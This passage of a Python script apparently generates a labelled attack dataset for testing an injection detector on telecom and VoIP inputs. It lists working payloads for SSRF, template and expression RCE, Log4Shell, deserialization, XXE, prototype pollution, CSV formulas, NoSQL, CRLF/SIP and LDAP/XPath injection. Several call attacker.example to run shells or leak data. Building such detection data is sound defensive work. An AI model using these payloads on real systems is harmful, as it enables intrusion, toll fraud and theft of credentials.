                "root/.bash_history", "etc/asterisk/pjsip.conf"]


def tpl_traversal(rng, n):
    combos = [(p, t) for p in TRAV_PREFIXES for t in TRAV_TARGETS]
    out = []
    for (ctx, pre), target in rng.sample(combos, n):
        depth = rng.randint(6, 10)
        out.append((f"{ctx}-dotdot_depth{depth}", pre + "../" * depth + target))
    return out


# --------------------------------------------------------------------------
# ssrf
# --------------------------------------------------------------------------
SSRF = [
    ("dlr_webhook-aws_imds_credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("mms_media_url-aws_imds_userdata", "http://169.254.169.254/latest/user-data"),
    ("ivr_audio_url-gcp_metadata_token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("status_callback-azure_imds_token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("cnam_provider_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("dlr_webhook-aws_imds_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("mms_media_url-aws_imds+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("mms_media_url-aws_imds+hex_ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("ivr_audio_url-aws_imds+octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("provisioning_server_url-loopback_asterisk_http", "http://127.0.0.1:8088/httpstatus"),
    ("crm_lookup_url-gopher_ami_originate+urlenc", "gopher://127.0.0.1:5038/_Action:%20Login%0D%0AUsername:%20admin%0D%0ASecret:%20placeholder%0D%0A%0D%0AAction:%20Originate%0D%0AChannel:%20PJSIP/trunk-out/900901234567%0D%0AExten:%20s%0D%0AContext:%20default%0D%0APriority:%201%0D%0A%0D%0A"),
    ("dlr_webhook-gopher_freeswitch_esl+urlenc", "gopher://127.0.0.1:8021/_auth%20ClueCon%0D%0A%0D%0Aapi%20system%20id%0D%0A%0D%0A"),
    ("mms_media_url-gopher_redis_cron+urlenc", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%2Fb%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("cnam_provider_url-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("logo_url-file_scheme", "file:///etc/asterisk/pjsip.conf"),
    ("status_callback-localhost_admin_export", "http://localhost:8080/admin/users?export=csv"),
    ("dlr_webhook-loopback+short_ip", "http://127.1:5000/internal/debug/vars"),
    ("dlr_webhook-zero_address", "http://0:8000/internal/config"),
    ("dlr_webhook-couchdb+ipv4_mapped_ipv6", "http://[::ffff:7f00:1]:5984/_all_dbs"),
    ("ivr_audio_url-etcd_ipv6_loopback", "http://[::1]:2379/v2/keys/?recursive=true"),
    ("mms_media_url-userinfo_confusion", "https://media.example.com@169.254.169.254/latest/meta-data/"),
    ("status_callback-consul_fragment_confusion", "http://127.0.0.1:8500/v1/agent/self#@hooks.example.com"),
    ("dlr_webhook-open_redirect_to_imds", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("dlr_webhook-dns_rebinding", "http://169.254.169.254.rebind.attacker.example/latest/meta-data/"),
    ("provisioning_server_url-docker_api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("crm_lookup_url-k8s_api_secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("crm_lookup_url-kubelet_pods", "https://10.0.0.1:10250/pods"),
    ("number_lookup_api-internal_elasticsearch", "http://10.12.0.5:9200/_cat/indices?v"),
    ("number_lookup_api-spring_actuator_env", "http://rating-engine.svc.cluster.local:8080/actuator/env"),
    ("firmware_url-tftp_internal_provisioning", "tftp://10.0.0.2/SEP001122334455.cnf.xml"),
    ("firmware_url-ftp_internal_backup", "ftp://10.0.0.2/backups/cdr.sql.gz"),
    ("logo_url-router_admin_backup", "http://192.168.1.1/cgi-bin/luci/admin/system/backup"),
    ("ivr_audio_url-loopback+unicode_enclosed", "http://①②⑦.⓪.⓪.①:8088/httpstatus"),
    ("mms_media_url-loopback+ideographic_dots", "http://127。0。0。1:8088/httpstatus"),
    ("mms_media_url-loopback+urlenc_host", "http://%31%32%37%2e%30%2e%30%2e%31:8088/httpstatus"),
    ("crm_lookup_url-ldap_scheme", "ldap://127.0.0.1:389/dc=example,dc=com??sub?(objectClass=*)"),
    ("mms_media_url-oracle_cloud_metadata", "http://169.254.169.254/opc/v2/instance/"),
    ("dlr_webhook-digitalocean_metadata", "http://169.254.169.254/metadata/v1.json"),
    ("ivr_audio_url-minio_admin+case_mix", "http://LOCALHOST:9000/minio/admin/v3/info"),
    ("logo_url-localhost_trailing_dot", "http://localhost.:8025/api/v2/messages"),
    ("syslog_target-internal_port_probe", "10.0.0.5:22"),
    ("dlr_webhook-loopback+dotted_hex", "http://0x7f.0x0.0x0.0x1:8088/httpstatus"),
    ("dlr_webhook-rabbitmq+octal_ip", "http://0177.0.0.1:15672/api/overview"),
    ("dlr_webhook-allowlist_suffix_bypass", "https://hooks.example.com.attacker.example/redirect-to-imds"),
    ("callback_url-backslash_parser_confusion", "https://hooks.example.com\\@127.0.0.1:8088/httpstatus"),
    ("plain-aws_imds_root", "http://169.254.169.254/"),
    ("plain-loopback_root", "http://127.0.0.1/"),
    ("plain-file_passwd", "file:///etc/passwd"),
    ("plain-localhost_ssh", "http://localhost:22"),
]

SSRF_HOSTS = [("mms_media_url", "127.0.0.1", ""), ("dlr_webhook", "localhost", ""),
              ("ivr_audio_url", "[::1]", "+ipv6_loopback"), ("status_callback", "127.0.0.2", ""),
              ("cnam_provider_url", "2130706433", "+decimal_ip")]
SSRF_PATHS = [("asterisk_ari", ":8088/ari/asterisk/info"), ("elasticsearch", ":9200/_cat/indices"),
              ("consul_kv", ":8500/v1/kv/?recurse"), ("prometheus", ":9090/api/v1/targets"),
              ("jolokia", ":8778/jolokia/list")]


def tpl_ssrf(rng, n):
    combos = [(h, p) for h in SSRF_HOSTS for p in SSRF_PATHS]
    return [(f"{ctx}-loopback_{svc}{enc}", f"http://{host}{path}")
            for (ctx, host, enc), (svc, path) in rng.sample(combos, n)]


# --------------------------------------------------------------------------
# code: SSTI, expression languages, deserialization, XXE, Log4Shell-style lookups,
# prototype pollution, CSV formula
# --------------------------------------------------------------------------
CODE = [
    ("sms_template_jinja2-cycler_globals", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}, Reply STOP to end"),
    ("sms_template_jinja2-lipsum_globals", "{{ lipsum.__globals__['os'].popen('cat /etc/asterisk/manager.conf').read() }}"),
    ("sms_template_jinja2-subclasses_enum", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("sms_template_jinja2-config_dump", "Your code is {{ config.items() }}"),
    ("sms_template_jinja2-attr_filter+hex_escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("sms_template_jinja2-namespace_globals", "{{ namespace.__init__.__globals__.os.popen('curl -s https://attacker.example/s|sh').read() }}"),
    ("sms_template_es_jinja2-lipsum_globals", "Hola {{ lipsum.__globals__.os.popen('id').read() }}, responde BAJA para salir"),
    ("sms_template_jinja2-statement_loop", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("sms_template_mako-expression", "${__import__('os').popen('id').read()}"),
    ("sms_template_mako-code_block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("sms_template_tornado-import", "{% import subprocess %}{{ subprocess.check_output(['id']) }}"),
    ("email_template_twig-filter_system", "{{ ['id']|filter('system') }}"),
    ("email_template_twig-map_passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ivr_template_freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ivr_template_velocity-runtime", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("sms_template_erb-backtick", "<%= `id` %>"),
    ("sms_template_erb-system", "Dear customer <%= system('cat /etc/passwd') %>"),
    ("sms_template_smarty-system", "{system('id')}"),
    ("sms_template_pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("sms_template_ejs-execsync", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("sms_template_nunjucks-range_constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("sms_template_thymeleaf-preprocessing", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("rating_rule_spel-runtime_exec", "#{T(java.lang.Runtime).getRuntime().exec('curl https://attacker.example/s')}"),
    ("rating_rule_spel-processbuilder", "${new java.lang.ProcessBuilder({'id'}).start()}"),
    ("routing_rule_ognl-runtime_exec", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("rating_rule_mvel-runtime_exec", "java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("rating_rule_jexl-forname", "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("rating_formula_python_eval-import_system", "__import__('os').system('id')"),
    ("rating_formula_python_eval-getattr_subprocess", "getattr(__import__('subprocess'),'check_output')(['cat','/etc/asterisk/sip.conf'])"),
    ("rating_formula_python_eval-subclass_walk", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('id')"),
    ("number_normalizer_js_eval-require_child_process", "require('child_process').execSync('id').toString()"),
    ("number_normalizer_js_eval-function_constructor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("dialplan_php_eval-string_concat", "'.system('id').'"),
    ("groovy_routing_script-execute", "\"id\".execute().text"),
    ("sip_user_agent-log4shell_ldap", "${jndi:ldap://attacker.example:1389/ua}"),
    ("ticket_title-log4shell_nested_lower", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x.attacker.example/t}"),
    ("caller_name-log4shell_default_value_lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example:1099/c}"),
    ("sms_body-log4shell_env_dns", "Your code is ${jndi:dns://${env:HOSTNAME}.exfil.attacker.example/a}"),
    ("http_header_log-log4shell+case_mix", "${jNdI:ldap://attacker.example/h}"),
    ("apn_name-log4shell_sys_property", "${jndi:ldap://${sys:java.version}.attacker.example/v}"),
    ("ticket_search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("import_job-pickle_os_system+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("device_profile_yaml-pyyaml_apply", "!!python/object/apply:os.system ['curl -s https://attacker.example/y | sh']"),
    ("device_profile_yaml-pyyaml_new_subprocess", "!!python/object/new:subprocess.check_output [['id']]"),
    ("crm_sync_json-jackson_jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("crm_sync_json-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/x\",\"autoCommit\":true}"),
    ("crm_sync_json-jsonnet_objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("node_session-node_serialize_iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("logo_path-phar_wrapper", "phar:///var/www/html/uploads/logo.jpg/x"),
    ("provisioning_xml-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE device [<!ENTITY cfg SYSTEM \"file:///etc/asterisk/manager.conf\">]>\n<device><mac>001122334455</mac><label>&cfg;</label></device>"),
    ("vxml_upload-xxe_parameter_entity_oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE vxml [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]>\n<vxml version=\"2.1\"><form><block><prompt>Hello</prompt></block></form></vxml>"),
    ("phonebook_xml-xxe_ssrf_imds", "<!DOCTYPE IPPhoneDirectory [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><IPPhoneDirectory><DirectoryEntry><Name>&m;</Name><Telephone>1001</Telephone></DirectoryEntry></IPPhoneDirectory>"),
    ("lsr_soap-xinclude_file", "<lsr xmlns:xi=\"http://www.w3.org/2001/XInclude\"><pon>77812</pon><notes><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></notes></lsr>"),
    ("mms_svg-xxe_file", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"40\"><text x=\"0\" y=\"20\">&h;</text></svg>"),
    ("coverage_kml-xxe_entity_expansion", "<?xml version=\"1.0\"?><!DOCTYPE kml [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><kml><Document><name>&f;</name></Document></kml>"),
    ("sms_campaign_json-proto_isadmin", "{\"name\":\"Spring promo\",\"__proto__\":{\"isAdmin\":true}}"),
    ("dashboard_prefs-constructor_prototype", "{\"theme\":\"dark\",\"constructor\":{\"prototype\":{\"role\":\"superuser\"}}}"),
    ("query_string-proto_bracket", "__proto__[canSendPremium]=true"),
    ("webhook_config-proto_child_process_gadget", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("deep_merge_path-proto_ejs_gadget", "__proto__.outputFunctionName=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2"),
    ("cdr_export_callername-csv_hyperlink", "=HYPERLINK(\"https://attacker.example/?leak=\"&C2&D2,\"Call details\")"),
    ("cdr_export_callername-csv_dde_powershell", "=cmd|' /C powershell -nop -w hidden -c iwr attacker.example/p.ps1|iex'!A1"),
    ("sms_export_sender-csv_plus_phone_dde", "+15550104477+cmd|' /C calc'!A0"),
    ("ticket_export_title-csv_at_dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("contact_export-csv_minus_dde", "-2+3+cmd|' /C calc'!'A1'"),
    ("billing_export-csv_webservice", "=WEBSERVICE(\"https://attacker.example/c?\"&A2)"),
    ("sheets_export-csv_importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?x=\",B2),\"//a\")"),
    ("sms_template_jinja2-cycler_globals+urlenc", "%7B%7B%20cycler.__init__.__globals__.os.popen(%27id%27).read()%20%7D%7D"),
    ("plain-ssti_probe_jinja", "{{7*'7'}}"),
    ("plain-el_probe", "${7*7}"),
    ("plain-erb_probe", "<%= 7*7 %>"),
    ("plain-log4shell_ldap", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto_pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv_formula", "=1+1+cmd|' /C calc'!A1"),
]

CODE_WRAPPERS = [("sms_template", "Hi {p}, your order has shipped. Reply STOP to end"),
                 ("ivr_prompt_template", "Thank you for calling {p}. For billing press 1."),
                 ("ticket_autoreply_template", "Ticket INC-0042 update: {p}")]
CODE_PAYLOADS = [
    ("jinja2_cycler_globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2_lipsum_globals", "{{ lipsum.__globals__.os.popen('uname -a').read() }}"),
    ("mako_import", "${__import__('subprocess').check_output('id',shell=True)}"),
    ("twig_filter_system", "{{ ['id']|filter('system') }}"),
    ("log4shell_ldap", "${jndi:ldap://t.attacker.example:1389/z}"),
]


def tpl_code(rng, n):
    combos = [(w, p) for w in CODE_WRAPPERS for p in CODE_PAYLOADS]
    return [(f"{ctx}-{tech}", wrap.format(p=pl)) for (ctx, wrap), (tech, pl) in rng.sample(combos, n)]


# --------------------------------------------------------------------------
# nosqli
# --------------------------------------------------------------------------
NOSQLI = [
    ("subscriber_lookup_json-ne_null", "{\"msisdn\": {\"$ne\": null}}"),
    ("subscriber_lookup_json-pin_ne", "{\"name\": \"Søren Ødegård\", \"pin\": {\"$ne\": \"0000\"}}"),
    ("portal_login_json-gt_empty", "{\"username\": \"noc_admin\", \"password\": {\"$gt\": \"\"}}"),
    ("port_pin_json-regex_prefix", "{\"pon\": \"77812\", \"transfer_pin\": {\"$regex\": \"^44\"}}"),
    ("query_string-ne_bracket", "msisdn[$ne]=0&pin[$ne]=0"),
    ("query_string-regex_exists_bracket", "imsi[$regex]=^310260.*&ki[$exists]=true"),
    ("cdr_filter_json-where_sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where_string_concat-return_true", "15550104477'; return true; var x='"),
    ("where_string_concat-blind_regex", "x' || this.pin.match(/^4/) || 'a'=='b"),
    ("subscriber_lookup_json-or_injection", "{\"$or\": [{\"msisdn\": \"15550104477\"}, {\"role\": \"admin\"}]}"),
    ("portal_login_json-in_nin", "{\"username\": {\"$in\": [\"admin\", \"root\", \"noc_admin\"]}, \"password\": {\"$nin\": [\"\"]}}"),
    ("aggregate_pipeline-lookup_injection", "[{\"$lookup\": {\"from\": \"api_keys\", \"localField\": \"account_id\", \"foreignField\": \"account_id\", \"as\": \"k\"}}]"),
    ("cdr_filter_json-expr_function_sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(6000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("cdr_filter_json-where_blind_timing", "{\"$where\": \"if (this.api_key && this.api_key[0]=='s') { sleep(4000) } return true;\"}"),
    ("query_string-gt_bracket_login", "user=noc_admin&password[$gt]="),
    ("subscriber_lookup_json-regex_all", "{\"msisdn\": {\"$regex\": \".*\"}, \"status\": \"active\"}"),
    ("ticket_search-where_sleep+urlenc", "%7B%22%24where%22%3A%22sleep(3000)%22%7D"),
    ("sms_optout_json-exists", "{\"keyword\": \"STOP\", \"msisdn\": {\"$exists\": true}}"),
    ("number_search_es-lucene_query_string", "msisdn:* OR role:admin"),
    ("couchdb_find-selector_gt_null", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"msisdn\", \"puk\"]}"),
    ("query_string-where_bracket", "filter[$where]=this.credit_limit>0"),
    ("porting_json-ne_operator+unicode_escape", "{\"pon\": {\"\\u0024ne\": \"\"}}"),
    ("subscriber_lookup_json-type_string", "{\"msisdn\": {\"$type\": 2}}"),
    ("voicemail_login_json-pin_regex_blind", "{\"mailbox\": \"1001\", \"pin\": {\"$regex\": \"^4[0-9]{3}$\"}}"),
    ("plain-ne_operator", "{\"$ne\": 1}"),
    ("plain-js_or_true", "' || '1'=='1"),
]

# --------------------------------------------------------------------------
# crlf: log, header, mail, SIP and line-protocol injection
# --------------------------------------------------------------------------
CRLF = [
    ("ticket_note_log-forged_entry", "Customer called back, issue persists\n2024-03-11T14:02:17Z INFO auth: user=noc_admin action=login result=success src=10.0.0.4"),
    ("ticket_note_log_fr-forged_refund_entry", "Client rappelé, problème résolu ✔\n2024-03-11 14:05:00 INFO billing: remboursement 500,00 € approuvé par noc_admin"),
    ("sms_body_log-forged_dlr", "Your code is 4471\r\nid:1f3a9c submit date:2403111402 done date:2403111402 stat:DELIVRD err:000"),
    ("dlr_callback_redirect-set_cookie+urlenc", "https://hooks.example.com/dlr%0d%0aSet-Cookie:%20portal_session=attacker-fixed-0001"),
    ("lang_param-response_splitting+urlenc", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("email_to_sms_from-bcc_injection", "noc@example.com\r\nBcc: all-subscribers@example.com"),
    ("email_to_sms_subject-body_injection", "Outage notice\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay overdue bill</a>"),
    ("sip_display_name-pai_injection", "Front Desk\r\nP-Asserted-Identity: <sip:+15550100000@carrier.example;user=phone>"),
    ("sip_diversion-rpid_injection", "sip:+15550188@example.com\r\nRemote-Party-ID: <sip:911@carrier.example>;party=calling;privacy=off;screen=yes"),
    ("sip_user_agent-message_smuggling", "Softphone 3.1\r\nContent-Length: 0\r\n\r\nBYE sip:1001@pbx.example.com SIP/2.0"),
    ("ami_action_field-originate_injection", "1001\r\n\r\nAction: Originate\r\nChannel: PJSIP/trunk-out/900901234567\r\nApplication: Playback\r\nData: hello-world"),
    ("redis_session_key-inline_command", "sess:1001\r\nFLUSHALL\r\n"),
    ("smtp_rcpt-data_smuggling", "ops@example.com>\r\nDATA\r\nFrom: billing@example.com\r\nSubject: Urgent\r\n\r\nPay at https://attacker.example\r\n.\r\nQUIT"),
    ("cdr_csv_log-forged_row", "Priya\n2024-03-11,+15550100,900901234567,ANSWERED,3600,0.00"),
    ("syslog_message-forged_priority_line", "link flap cleared\n<34>Mar 11 14:02:17 sbc01 sshd[4412]: Accepted password for root from 10.0.0.4 port 52214 ssh2"),
    ("ticket_note_log-ansi_escape_overwrite", "\x1b[1A\x1b[2K2024-03-11 14:02:17 INFO ticket INC-0042 closed by noc_admin"),
    ("redirect_path-location+double_urlenc", "/portal/home%250d%250aLocation:%2520https://attacker.example/"),
    ("callback_header-set_cookie+unicode_truncation", "https://hooks.example.com/dlr\u560a\u560dSet-Cookie: a=b"),
    ("lang_cookie-lf_set_cookie", "de\nSet-Cookie: role=admin; Path=/"),
    ("notify_email_to-lf_cc_injection", "noc-oncall@example.com\nCc: victim1@example.org, victim2@example.org"),
    ("x_forwarded_for-access_log_forge", "192.0.2.44\r\n192.0.2.44 - - [11/Mar/2024:14:02:17 +0000] \"GET /admin/export HTTP/1.1\" 200 51234"),
    ("webhook_custom_header-header_injection", "X-Tenant: acme\r\nAuthorization: Bearer fake-token-placeholder\r\nX-Forwarded-Host: attacker.example"),
    ("ticket_note_jsonlog-line_break", "all clear\"}\n{\"level\":\"info\",\"user\":\"noc_admin\",\"msg\":\"MFA disabled\"}"),
    ("click_to_call_to-via_injection+urlenc", "1001%0d%0aVia:%20SIP/2.0/UDP%20203.0.113.45:5060;branch=z9hG4bK-x"),
    ("ussd_response_log-cr_overwrite", "Balance: $4.17\rBalance: $400.17 (credit applied by admin)"),
    ("next_param-set_cookie+utf8_truncation", "/billing%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
    ("sip_contact-record_route_injection", "<sip:1001@192.0.2.44:5060>\nRecord-Route: <sip:203.0.113.45;lr>"),
    ("sms_sender_id_log-forged_warning", "EXAMPLE\nWARN fraud-engine: whitelist add +900901234567 by system"),
    ("mail_reply_to-header_injection+urlenc", "support@example.com%0AReply-To:%20billing@attacker.example"),
    ("plain-set_cookie+urlenc", "%0d%0aSet-Cookie:%20x=1"),
    ("plain-raw_header", "\r\nX-Injected: 1"),
    ("plain-lf_header+urlenc", "%0aX-Injected-Header: yes"),
]

# --------------------------------------------------------------------------
# ldap-xpath
# --------------------------------------------------------------------------
LDAP_XPATH = [
    ("ldap_login_uid-and_true", "noc_admin)(&)"),
    ("ldap_login_uid-or_close_reopen", "*)(uid=*))(|(uid=*"),
    ("phonebook_ldap-attribute_leak", "*)(userPassword=*"),
    ("phonebook_ldap-or_objectclass", "Smith)(|(objectClass=*)"),
    ("phonebook_ldap-telephone_wildcard_leak", "José*)(telephoneNumber=*"),
    ("ext_lookup_ldap-blind_pin_prefix", "1001)(voicemailPin=44*"),
    ("ext_lookup_ldap-sip_secret_presence", "1001)(|(sipSecret=*"),
    ("ldap_login_uid-nullbyte_truncation+urlenc", "admin)%00"),
    ("phonebook_ldap-memberof_admins", "*)(memberOf=cn=pbx-admins,ou=groups,dc=example,dc=com"),
    ("ad_phonebook_ldap-attr_enum", "*)(|(mobile=*)(homePhone=*)(unicodePwd=*"),
    ("xml_phonebook_xpath-or_true", "1001' or '1'='1"),
    ("xml_phonebook_xpath-union_nodes", "1001'] | //user/password | //contact[number='"),
    ("xml_userstore_xpath-blind_substring", "x' or substring(//user[name='admin']/pin,1,1)='4' or 'a'='b"),
    ("xml_userstore_xpath-count_probe", "' or count(//user)>5 or '"),
    ("xml_userstore_xpath-string_length", "' or string-length(//user[1]/password)=12 or '"),
    ("xml_phonebook_xpath-root_name_probe", "' or name(/*[1])='phonebook' or '"),
    ("xml_ext_xpath-numeric_or", "1001 or 1=1"),
    ("xml_phonebook_xpath2-doc_ssrf", "1001' or doc('http://attacker.example/x')/a or '"),
    ("provisioning_xpath-mac_or_true", "001122334455\" or \"1\"=\"1"),
    ("cnam_ldap-wildcard_sn_dump", "*)(sn=*"),
    ("plain-ldap_or_injection", "*)(|(cn=*"),
    ("plain-xpath_or_true", "' or 1=1 or 'x'='y"),
]

CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 10),
    ("xss", XSS, tpl_xss, 10),
    ("cmdi", CMDI, tpl_cmdi, 10),
    ("traversal", TRAVERSAL, tpl_traversal, 8),
    ("ssrf", SSRF, tpl_ssrf, 6),
    ("code", CODE, tpl_code, 6),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, None, 0),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, template, n_tpl in CATEGORIES:
        values = list(literals)
        if template is not None:
            values += template(rng, n_tpl)
        for cls, v in values:
            if not isinstance(v, str) or not v or len(v) > 1800:
                sys.exit(f"bad value in {cat}: {v!r}")
            if "-" not in cls:
                sys.exit(f"bad class {cls!r}")
            if v in seen:
                sys.exit(f"duplicate value: {v!r}")
            seen.add(v)
            rows.append({"category": cat, "class": cls, "value": v})
        stats.append((cat, len(values), len(literals)))

    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            benign_values = {json.loads(line)["value"] for line in fh}
        clash = [r["value"] for r in rows if r["value"] in benign_values]
        if clash:
            sys.exit(f"value in both files: {clash[0]!r}")

    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, row in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": row["category"],
                   "class": row["class"], "label": "attack", "value": row["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = sum(s[2] for s in stats)
    for cat, n, n_lit in stats:
        print(f"{cat:12s} {n:4d}  literals {n_lit:3d}")
    print(f"{'total':12s} {len(rows):4d}  literals {total_lit:3d}")
    plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    encoded = sum(1 for r in rows if "+" in r["class"])
    print(f"plain- classes {plain}, encoded classes {encoded}")
    if total_lit < MIN_LITERAL_SHARE * len(rows):
        sys.exit("literal share below 80%")


if __name__ == "__main__":
    main()
